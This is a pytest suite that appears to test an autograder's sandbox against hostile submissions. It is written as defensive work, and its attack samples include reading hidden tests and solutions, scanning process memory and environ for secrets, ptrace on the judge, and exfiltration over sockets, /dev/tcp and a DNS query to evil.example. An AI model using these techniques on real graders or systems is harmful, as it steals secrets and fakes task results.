"""Reading answers: tests, references, keys, the work of others; and telling what was read."""

import ctypes
import secrets
from pathlib import Path

import msgspec
import pytest

pytestmark = pytest.mark.attack("Reading answers")

SOLUTION = "COURSE + '/solutions/ch01_neuron/neuron.py'"


def told(struck):
    """Whatever a result says to anybody."""
    return msgspec.json.encode(struck.result).decode()


# In the worker's own memory


def test_frames_above_the_caller(strike):
    struck = strike("""
        import sys
        def sigmoid(z):
            frame = sys._getframe(1)
            while frame:
                for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
                    if name in ("due", "expected", "reference", "solution", "sigmoid"):
                        return value(z) if callable(value) else value
                frame = frame.f_back
    """)
    assert struck.status == "failed"
    assert "gave None" in struck.messages


def test_frames_that_say_what_is_being_tested(strike):
    struck = strike("""
        import sys
        def sigmoid(z):
            frame, names = sys._getframe(1), []
            while frame:
                names += [frame.f_code.co_filename, *map(str, frame.f_locals)]
                frame = frame.f_back
            raise ValueError([name for name in names if "test" in name or "hidden" in name])
    """)
    assert struck.status == "failed"
    assert "raised ValueError: []" in struck.messages


HEAP = {
    "namespaces of tests": "type(o) is dict and 'SHAPES' in o and 'shaped' in o",
    "functions of tests": "type(o) is FunctionType and o.__name__.startswith('test_sigmoid')",
    "modules of the judge": """type(o) is ModuleType and object.__getattribute__(o, "__name__") in (
        "grader.judge", "grader.compare", "grader.learner", "tests.hidden.test_neuron")""",
    "references": """type(o) is FunctionType and o.__name__ == "sigmoid" and o is not sigmoid
        and (o.__module__ or "grader").partition(".")[0] not in ("keras", "tensorflow")""",
    "sources": """type(o) in (list, tuple) and any(
        type(text) is str and text.startswith("%s tf_step" % "def") for text in o)""",
}


@pytest.mark.parametrize("sought", HEAP.values(), ids=HEAP)
def test_a_walk_through_the_heap(strike, sought):
    """`gc.unfreeze` brings out also what the zygote froze."""
    struck = strike(f"""
        import gc
        from types import FunctionType, ModuleType
        def walk():
            gc.unfreeze()
            return [o for o in gc.get_objects() if {sought}]
        def sigmoid(z):
            if "found" not in globals():
                globals()["found"] = len(walk())
            raise ValueError("found %d" % found)
    """)
    assert struck.status == "failed"
    assert "raised ValueError: found 0" in struck.messages


def test_an_array_that_looks_like_the_answer(strike):
    struck = strike("""
        import gc
        import numpy as np
        def sigmoid(z):
            for holder in gc.get_objects():
                values = holder.values() if type(holder) is dict else holder
                for value in values if type(holder) in (dict, list, tuple) else ():
                    if type(value) is np.ndarray and value is not z and value.dtype == float:
                        if value.shape == np.shape(z) and np.all((0 < value) & (value < 1)):
                            return value
    """)
    assert struck.status == "failed"
    assert "gave None" in struck.messages


def test_raw_memory(strike):
    """Strings that are garbage to Python may lie in the memory that the zygote handed down."""
    struck = strike("""
        import re
        def look():
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    place, mode, *_, name = line.split()
                    if mode.startswith("rw") and name[:2] != "[v":
                        start, end = (int(number, 16) for number in place.split("-"))
                        memory.seek(start)
                        if re.search(rb"d[e]f test_sigmoid_of_", memory.read(end - start)):
                            return "found it"
        def sigmoid(z):
            globals().setdefault("seen", look())
            raise ValueError(seen)
    """)
    assert struck.status == "failed"
    assert "found it" not in struck.messages


def test_inspect_and_linecache(strike):
    struck = strike("""
        import inspect, linecache
        def sigmoid(z):
            frames = inspect.stack(context=9)
            lines = [line for frame in frames for line in frame.code_context or ()]
            lines += [line for entry in linecache.cache.values() for line in entry[2]]
            sought = ("test_known" "_values", "BEGIN" " SOLUTION", "tf_" "step")
            raise ValueError([line for line in lines if any(word in line for word in sought)])
    """)
    assert struck.status == "failed"
    assert "raised ValueError: []" in struck.messages


@pytest.mark.parametrize("name", ["test_neuron", "neuron_solution", "mistakes", "conftest"])
def test_modules_imported_by_a_guessed_name(strike, name):
    struck = strike(f"""
        import importlib
        def sigmoid(z):
            return importlib.import_module({name!r}).sigmoid(z)
    """)
    assert struck.status == "failed"
    assert f"No module named '{name}'" in struck.messages


def test_functions_that_later_chapters_are_given(strike):
    struck = strike("""
        import importlib
        def sigmoid(z):
            return importlib.import_module("grader.given").sigmoid(z)
    """)
    assert struck.status == "failed"


@pytest.mark.parametrize("moment", ["in a call", "at import"])
def test_the_reference_that_stands_in_for_a_failed_function(judges, tmp_path, moment):
    """tanh gets the course's sigmoid when the learner's is wrong, and tells how it is written."""
    read = "raise ValueError(sys.meta_path[0].load.supplied)"
    (tmp_path / "neuron.py").write_text(f"""
import sys
{read if moment == "at import" else ""}
def sigmoid(z): return 0
def tanh(z):
    {read if moment == "in a call" else "return 0"}
""")
    result = judges().grade(tmp_path, ("sigmoid", "tanh"))
    assert result.score == 0
    assert "np.exp(-np.abs(z))" not in msgspec.json.encode(result).decode()


# By path


PATHS = {
    "open": "open(SOLUTION).read()",
    "linecache": "''.join(linecache.getlines(SOLUTION))",
    "numpy": "np.fromfile(SOLUTION, np.uint8).tobytes().decode()",
    "tensorflow": "__import__('tensorflow').io.read_file(SOLUTION).numpy().decode()",
    "a link": "[os.symlink(SOLUTION, 'a'), open('a').read(), os.remove('a')][1]",
    "a hard link": "[os.link(SOLUTION, 'a'), open('a').read(), os.remove('a')][1]",
    "the root of the parent": "open(f'/proc/{os.getppid()}/root' + SOLUTION).read()",
    "the root of the judge": "open(f'/proc/{JUDGE}/root' + SOLUTION).read()",
    "a child": "subprocess.check_output(['cat', SOLUTION], text=True)",
    "native code": "native()",
    "git": "subprocess.check_output(['git', 'show', 'HEAD:' + SOLUTION[len(COURSE) + 1:]],"
    " cwd=COURSE, text=True)",
}


@pytest.mark.parametrize("stolen", PATHS.values(), ids=PATHS)
def test_the_solution_by_path(strike, stolen):
    struck = strike(f"""
        import ctypes, linecache, os, subprocess
        import numpy as np
        SOLUTION = {SOLUTION}
        def native():
            libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(2**16)
            libc.read(libc.open(SOLUTION.encode(), 0), text, 2**16)
            return text.value.decode() or 1 / 0
        def sigmoid(z):
            reference = {{}}
            exec({stolen}, reference)
            return reference["sigmoid"](z)
    """)
    assert struck.status == "failed"


@pytest.mark.parametrize("visibility", ["hidden", "visible"])
def test_the_tests_by_path(strike, visibility):
    folder = {"hidden": "/tests/hidden", "visible": "/exercises/ch01_neuron"}[visibility]
    struck = strike(f"""
        import sys
        def sigmoid(z):
            sys.path.insert(0, COURSE + {folder!r})
            import test_neuron as tests
            raise ValueError([*vars(tests)])
    """)
    assert struck.status == "failed"
    assert "raised ValueError" not in struck.messages


def test_the_tests_as_a_package(strike):
    struck = strike("""
        def sigmoid(z):
            from tests.hidden import test_neuron as tests
            return tests.tf.math.sigmoid(tests.f64(z)).numpy()
    """)
    assert struck.status == "failed"


def test_git_objects_without_git(strike):
    struck = strike("""
        import os
        def sigmoid(z):
            git = COURSE + "/.git"
            if os.path.isfile(git):
                git = open(git).read().split()[1] + "/../.."
            raise ValueError(os.listdir(git + "/objects"))
    """)
    assert struck.status == "failed"
    assert "raised ValueError" not in struck.messages


def test_the_work_of_another_student(strike, tmp_path):
    annas = tmp_path / "anna" / "neuron.py"
    annas.parent.mkdir()
    annas.write_text("import numpy as np\ndef sigmoid(z): return 1 / (1 + np.exp(-np.array(z)))\n")
    struck = strike(f"""
        import numpy as np
        def sigmoid(z):
            annas = {{}}
            exec(open({str(annas)!r}).read(), annas)
            with np.errstate(over="ignore"):
                return annas["sigmoid"](np.asarray(z, float))
    """)
    assert struck.status == "failed"


def test_a_secret_by_path(strike):
    struck = strike("""
        def sigmoid(z):
            raise ValueError(open(SECRET_FILE).read())
    """)
    assert struck.status == "failed"


# Out of other processes


OWN = {
    "os.environ": "dict(os.environ)",
    "getenv": "ctypes.CDLL(None).getenv(b'KATA_TEST_SECRET') or 'nothing'",
    "environ": "open('/proc/self/environ').read()",
    "cmdline": "open('/proc/self/cmdline').read()",
    "argv": "(sys.argv, sys.orig_argv, sys.flags, sys.warnoptions, sys._xoptions)",
}


@pytest.mark.parametrize("read", OWN.values(), ids=OWN)
def test_the_worker_asked_about_itself(strike, read):
    struck = strike(f"""
        import ctypes, os, sys
        def sigmoid(z):
            seen = {read}
            raise ValueError(seen)
    """)
    assert struck.status == "failed"
    assert "KATA_TEST_SECRET" not in struck.messages
    assert "PYTEST" not in struck.messages
    if "getenv" in read:
        assert "raised ValueError: nothing" in struck.messages


@pytest.mark.parametrize("process", ["JUDGE", "os.getppid()"], ids=["judge", "parent"])
@pytest.mark.parametrize("file", ["environ", "cmdline"])
def test_proc_of_another_process(strike, process, file):
    struck = strike(f"""
        import os
        def sigmoid(z):
            raise ValueError(open(f"/proc/{{{process}}}/{file}").read())
    """)
    assert struck.status == "failed"
    assert "raised ValueError" not in struck.messages


def test_open_files_of_the_judge(strike):
    struck = strike("""
        import os
        def sigmoid(z):
            folder = f"/proc/{JUDGE}/fd/"
            raise ValueError([os.readlink(folder + name) for name in os.listdir(folder)])
    """)
    assert struck.status == "failed"
    assert "raised ValueError" not in struck.messages


HEAP_OF_THE_JUDGE = """
        import ctypes
        def heap():
            with open(f"/proc/{JUDGE}/maps") as maps:
                place = next(line for line in maps if "[heap]" in line).split()[0]
            return (int(number, 16) for number in place.split("-"))
        def sigmoid(z):
            start, end = heap()
            memory = read(start, end - start)
            at = memory.find(b"KATA_TEST_SECRET=")
            raise ValueError(memory[at : at + 50])
"""


def test_the_memory_of_the_judge(strike):
    struck = strike(
        """
        def read(start, size):
            with open(f"/proc/{JUDGE}/mem", "rb", 0) as memory:
                memory.seek(start)
                return memory.read(size)
    """
        + HEAP_OF_THE_JUDGE
    )
    assert struck.status == "failed"
    assert "KATA_TEST_SECRET" not in struck.messages


def test_process_vm_readv(strike):
    struck = strike(
        """
        def read(start, size):
            class Part(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
            copy = ctypes.create_string_buffer(size)
            mine, theirs = Part(ctypes.addressof(copy), size), Part(start, size)
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.process_vm_readv(JUDGE, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) < 0:
                raise OSError(ctypes.get_errno(), "process_vm_readv")
            return copy.raw
    """
        + HEAP_OF_THE_JUDGE
    )
    assert struck.status == "failed"
    assert "KATA_TEST_SECRET" not in struck.messages


@pytest.mark.parametrize("process", ["JUDGE", "os.getppid()"], ids=["judge", "parent"])
def test_ptrace(strike, process):
    """Seized from a thread, whose end lets go again."""
    struck = strike(f"""
        import ctypes, os, threading
        SEIZE, seized = 0x4206, []
        def seize(process):
            libc = ctypes.CDLL(None, use_errno=True)
            seized.append(libc.ptrace(SEIZE, process, 0, 0) or "got it")
        def sigmoid(z):
            thread = threading.Thread(target=seize, args=({process},))
            thread.start()
            thread.join()
            raise ValueError(seized)
    """)
    assert struck.status == "failed"
    assert "got it" not in struck.messages


def test_the_environment_of_the_command(command):
    """The command is the worker's grandparent, and was started with a key in its environment."""
    _, struck = command("""
        import os
        def sigmoid(z):
            stat = open(f"/proc/{os.getppid()}/stat").read()
            raise ValueError(open(f"/proc/{stat.rpartition(')')[2].split()[1]}/environ").read())
    """)
    assert struck.status == "failed"
    assert "KATA_TEST_SECRET" not in struck.messages


# Sending it out


DOORS = {
    "TCP": "socket.create_connection(('127.0.0.1', TCP)).sendall(said)",
    "TCP over IPv6": "to(socket.AF_INET6, ('::ffff:127.0.0.1', TCP)).sendall(said)",
    "UDP": "socket.socket(type=socket.SOCK_DGRAM).sendto(said, ('127.0.0.1', UDP))",
    "DNS": "socket.socket(type=socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', UDP))",
    "a Unix socket": "to(socket.AF_UNIX, UNIX).sendall(said)",
    "an abstract socket": "to(socket.AF_UNIX, '\\0' + ABSTRACT).sendall(said)",
    "a socket of native code": "native()",
    "a shell": "subprocess.run(['bash', '-c', f'echo > /dev/tcp/127.0.0.1/{TCP}'])",
    "a thread": "threading.Thread(target=native).start()",
    "a file": "open(DROP + '/box', 'wb').write(said)",
    "a name of a file": "os.mkdir(DROP + '/heard')",
    "a link": "os.symlink('heard', DROP + '/box')",
    "a pipe": "os.mkfifo(DROP + '/box')",
}


@pytest.mark.parametrize("send", DOORS.values(), ids=DOORS)
def test_hidden_inputs_sent_out(strike, send):
    struck = strike(f"""
        import ctypes, os, socket, subprocess, threading
        def to(family, address):
            door = socket.socket(family)
            door.connect(address)
            return door
        def native():
            libc = ctypes.CDLL(None)
            address = b"\\2\\0" + TCP.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
            libc.connect(libc.socket(2, 1, 0), address, 16)
        def sigmoid(z):
            said = repr(z).encode()[:60]
            question = bytes([1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, len(said)]) + said
            question += b"\\4evil\\7example\\0\\0\\1\\0\\1"
            {send}
    """)
    assert struck.status == "failed"


SHARED_MEMORY = {
    "a file in /tmp": ("open('/tmp/NAME', 'w').write('hello')", "open('/tmp/NAME').read()"),
    "a file in /var/tmp": (
        "open('/var/tmp/NAME', 'w').write('hello')",
        "open('/var/tmp/NAME').read()",
    ),
    "a file in /dev/shm": (
        "open('/dev/shm/NAME', 'w').write('hello')",
        "open('/dev/shm/NAME').read()",
    ),
    "a file beside its own folder": (
        "open('../NAME', 'w').write('hello')",
        "open('../NAME').read()",
    ),
    "SysV memory": (
        "ctypes.memmove(attached(libc.shmget(KEY, 64, 0o1666)), b'hello', 6)",
        "ctypes.string_at(attached(libc.shmget(KEY, 64, 0)))",
    ),
    "a SysV queue": (
        "libc.msgsnd(libc.msgget(KEY, 0o1666), (1).to_bytes(8, 'little') + b'hello', 5, 0o4000)",
        "received(libc.msgget(KEY, 0))",
    ),
    "a SysV semaphore": (
        "libc.semctl(libc.semget(KEY, 1, 0o1666), 0, 16, 7)",
        "'hello' if libc.semctl(libc.semget(KEY, 1, 0), 0, 12) == 7 else ''",
    ),
    "a POSIX queue": (
        "libc.mq_send(libc.mq_open(b'/NAME', 0o102, 0o666, None), b'hello', 5, 0)",
        "'hello' if libc.mq_open(b'/NAME', 0) >= 0 else ''",
    ),
    "a keyring": (
        "libc.syscall(248, b'user', b'NAME', b'hello', 5, -4)",
        "'hello' if libc.syscall(250, 10, -4, b'user', b'NAME', 0) > 0 else ''",
    ),
    "the signal of an inherited descriptor": (
        "fcntl.fcntl(0, 10, 42)",
        "'hello' if fcntl.fcntl(0, 11) == 42 else ''",
    ),
    "the flags of an inherited descriptor": (
        "fcntl.fcntl(1, fcntl.F_SETFL, os.O_RDWR | os.O_APPEND)",
        "'hello' if fcntl.fcntl(1, fcntl.F_GETFL) & os.O_APPEND else ''",
    ),
    "the owner of an inherited descriptor": (
        "fcntl.fcntl(2, fcntl.F_SETOWN, 1)",
        "'hello' if fcntl.fcntl(2, fcntl.F_GETOWN) == 1 else ''",
    ),
}


@pytest.fixture
def name():
    """A name that nobody has, cleared away wherever an attack may have left it."""
    name = f"box-{secrets.token_hex(4)}"
    yield name
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        Path(folder, name).unlink(missing_ok=True)
    libc = ctypes.CDLL(None)
    libc.shmctl(libc.shmget(key_of(name), 0, 0), 0, None)
    libc.msgctl(libc.msgget(key_of(name), 0), 0, None)
    libc.semctl(libc.semget(key_of(name), 0, 0), 0, 0)
    libc.mq_unlink(f"/{name}".encode())
    if (key := libc.syscall(250, 10, -4, b"user", name.encode(), 0)) > 0:
        libc.syscall(250, 9, key, -4)


def key_of(name):
    return int(name.removeprefix("box-"), 16) & 0x7FFFFFFF


@pytest.mark.parametrize(("put", "get"), SHARED_MEMORY.values(), ids=SHARED_MEMORY)
def test_a_word_for_the_next_submission(strike, name, put, get):
    helpers = f"""
import ctypes, fcntl, os, sys
libc, KEY = ctypes.CDLL(None), {key_of(name)}
def attached(memory):
    libc.shmat.restype = ctypes.c_void_p
    return libc.shmat(memory, None, 0)
def received(queue):
    text = ctypes.create_string_buffer(64)
    libc.msgrcv(queue, text, 56, 0, 0o4000)
    return text.raw[8:13]
"""
    put, get = put.replace("NAME", name), get.replace("NAME", name)
    strike(f"{helpers}def sigmoid(z):\n    {put}\n")
    struck = strike(f"{helpers}def sigmoid(z):\n    assert ({get}) not in ('hello', b'hello')\n")
    assert struck.status == "failed"
    assert "raised AssertionError" not in struck.messages


BETWEEN = {
    "a file": ("open('../NAME', 'w').write('heard -40')", "open('../NAME').read()"),
    "a descriptor": ("fcntl.fcntl(0, 10, 40)", "f'heard {-fcntl.fcntl(0, 11)}'"),
    "a lock on a file": ("fcntl.flock(lock, fcntl.LOCK_SH)", "'heard -40' if locked() else ''"),
    "a lock on a part of a file": (
        "fcntl.lockf(lock, fcntl.LOCK_SH, 1, 40)",
        "f'heard -{start}' if (start := locked_part()) else ''",
    ),
    "a watch on a file": ("open(SHARED).read()", "'heard -40' if was_read() else ''"),
}


@pytest.mark.parametrize(("put", "get"), BETWEEN.values(), ids=BETWEEN)
def test_a_word_from_the_hidden_tests_to_the_visible_ones(strike, name, put, get):
    """-40.0 is an input of a hidden test; what a visible test of relu says is shown."""
    struck = strike(
        f"""
        import ctypes, fcntl, os, select, struct
        import numpy as np
        SHARED = os.path.dirname(os.__file__) + "/this.py"
        lock = os.open(SHARED, os.O_RDONLY)
        libc, READ = ctypes.CDLL(None), 1
        watch = libc.inotify_init()
        libc.inotify_add_watch(watch, SHARED.encode(), READ)
        def locked():
            try:
                fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                return True
            fcntl.flock(lock, fcntl.LOCK_UN)
        def locked_part():
            sought = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
            kind, _, start, *_ = struct.unpack("hhqqi", fcntl.fcntl(lock, fcntl.F_GETLK, sought))
            return start if kind != fcntl.F_UNLCK else 0
        def was_read():
            return select.select([watch], [], [], 0)[0]
        def sigmoid(z):
            if np.ndim(z) == 0 and z == -40:
                {put.replace("NAME", name)}
        def relu(z):
            assert ({get.replace("NAME", name)}) != "heard -40"
        """,
        kills_module=True,
    )
    tests = [test for exercise in struck.result.exercises for test in exercise.tests]
    shown = [test.message for test in tests if test.visibility == "visible"]
    assert "raised AssertionError" not in "".join(shown)


# Hidden inputs in what is reported


ECHOES = {
    "an exception": "raise ValueError(heard)",
    "an exception of its own class": "raise type(heard, (ValueError,), {})",
    "a cause": "raise ValueError from KeyError(heard)",
    "a group": "raise ExceptionGroup(heard, [KeyError(heard)])",
    "a note of an exception": "error = ValueError(); error.add_note(heard); raise error",
    "a system exit": "raise SystemExit(heard)",
    "a syntax error": "exec(heard)",
    "a name": "return globals()[heard]",
    "an assertion": "assert z is None, heard",
    "stdout": "print(heard, flush=True)",
    "stderr": "print(heard, file=sys.stderr, flush=True)",
    "a descriptor": "os.write(1, heard.encode()); os.write(2, heard.encode())",
    "a warning": "warnings.warn(heard, RuntimeWarning)\n    return np.zeros(np.shape(z))",
    "a kind of warning": """warnings.warn("oh", type(heard, (RuntimeWarning,), {}))
    return np.zeros(np.shape(z))""",
    "a text": "return heard",
    "a key": "return {heard: 1}",
    "a list": "return [heard]",
    "the type of an object": "return type(heard, (), {})()",
    "a type": "return type(heard, (), {})",
    "the name of a function": "sigmoid.__name__ = sigmoid.__qualname__ = heard; return sigmoid",
    "an array of text": "return np.array([heard])",
    "a field of an array": "return np.zeros(np.shape(z), [(heard[:9], float)])",
    "an object in an array": "return np.array([type(heard, (), {})()])",
    "a line kept for tracebacks": """linecache.cache[__file__] = (1, None, [heard] * 99, __file__)
    raise ValueError""",
    "a file of that name": "exec(compile('1 / 0', heard, 'exec'))",
    "a module imported later": "builtins.heard = heard; import late",
}


@pytest.mark.parametrize("echo", ECHOES.values(), ids=ECHOES)
def test_hidden_inputs_echoed(strike, echo):
    """-800.0 is an input of a hidden test and of no visible one."""
    late = "import builtins, sys\ndel sys.modules['late']\nraise ValueError(builtins.heard)"
    code = "import builtins, linecache, os, sys, warnings\nimport numpy as np\n"
    code += f"def sigmoid(z):\n    heard = f'heard {{z}}'\n    {echo}\n"
    struck = strike(code, beside={"late.py": late})
    assert struck.status == "failed"
    assert "-800" not in told(struck)


def test_hidden_inputs_echoed_as_the_name_of_a_stub(strike):
    struck = strike("""
        def sigmoid(z):
            def stub(): raise NotImplementedError
            stub.__code__ = stub.__code__.replace(co_name=f"heard {z}")
            stub()
    """)
    assert struck.status == "todo"
    assert "-800" not in told(struck)


FORGED = {
    "an unknown kind of reply": "wire.Answer = once('Answer', lambda *_: [heard])",
    "an unknown type of array": "wire.pack = once('pack', lambda *_: array(heard, [1]))",
    "a shape": "wire.pack = once('pack', lambda *_: array('<f8', [int(z)]))",
    "the type of an opaque thing": "wire.pack = once('pack', lambda *_: ext(11, heard))",
    "the name of a handle": "wire.pack = once('pack', lambda *_: ext(9, [0, heard]))",
    "the name of a given function": "wire.pack = once('pack', lambda *_: ext(10, heard))",
    "the field of a reply": "wire.Answer = once('Answer', lambda *_: {heard: heard})",
}


@pytest.mark.parametrize("forge", FORGED.values(), ids=FORGED)
def test_hidden_inputs_echoed_in_a_malformed_reply(strike, forge):
    """The worker's own module is patched from a call; it mends itself for its neighbours."""
    struck = strike(f"""
        import msgspec
        import numpy as np
        wire = real("wire")
        def ext(code, content):
            content = msgspec.msgpack.encode(content)
            tree = msgspec.msgpack.encode(msgspec.msgpack.Ext(code, content))
            return msgspec.msgpack.encode([tree, [b""]])
        def array(dtype, shape):
            return ext(4, [dtype, shape, 0])
        def once(name, forged):
            honest = getattr(wire, name)
            def call(*args):
                setattr(wire, name, honest)
                return forged(*args)
            return call
        def sigmoid(z):
            heard = f"heard {{z}}"
            if np.ndim(z) == 0:
                {forge}
    """)
    assert struck.status == "failed"
    assert "-800" not in told(struck)


def test_hidden_inputs_echoed_by_the_line_that_raises(strike):
    lines = "\n".join(f"        if z == {z}: raise ValueError" for z in range(-1000, 0, 50))
    struck = strike(f"""
import numpy as np
def sigmoid(z):
    if np.ndim(z) == 0:
{lines}
    """)
    assert struck.status == "failed"
    assert "-800" not in told(struck)
